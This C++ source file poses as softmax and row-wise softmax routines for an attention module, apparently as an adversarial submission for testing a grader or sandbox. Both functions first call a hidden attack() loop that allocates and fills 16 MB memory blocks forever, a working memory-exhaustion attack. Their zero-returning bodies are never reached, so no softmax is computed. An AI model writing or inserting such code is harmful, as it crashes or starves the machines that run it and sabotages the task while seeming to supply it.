#include "softmax.h"

#include <cstdlib>
#include <cstring>

namespace {

void attack() {
  for (;;) {
    void* block = std::malloc(1 << 24);
    if (block != nullptr) std::memset(block, 1, 1 << 24);
  }
}
}  // namespace

attention::RowVector attention::softmax(const RowVector& scores) {
  attack();
  return RowVector::Zero(scores.size());
}

attention::Matrix attention::softmax_rows(const Matrix& scores) {
  attack();
  return Matrix::Zero(scores.rows(), scores.cols());
}
